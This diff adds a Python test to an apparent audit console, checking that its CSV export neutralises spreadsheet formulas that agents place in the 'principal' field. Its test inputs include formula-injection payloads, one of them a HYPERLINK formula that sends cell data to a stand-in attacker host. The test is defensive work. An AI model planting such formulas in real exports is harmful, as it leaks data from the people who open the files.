@@ -178,3 +178,25 @@ def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
 
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert [r["principal"] for r in rows] == ["'" + formula]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1"]
+
+
+def test_every_export_cell_an_agent_controls_is_neutralised(
+    auditor: Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from console import services
+    from console.demo.review_data import transfer_request
+
+    use_demo_bank(monkeypatch)
+    # The principal is the agent's text in the export; server and tool must name an imported tool.
+    for formula in FORMULAS:
+        services.execution_create(body=transfer_request(principal=formula), token=None, actor="agent:test")
+
+    response = auditor.get("/audit/export.csv")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert rows[1:] and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert {r[rows[0].index("principal")] for r in rows[1:]} == {"'" + f for f in FORMULAS}
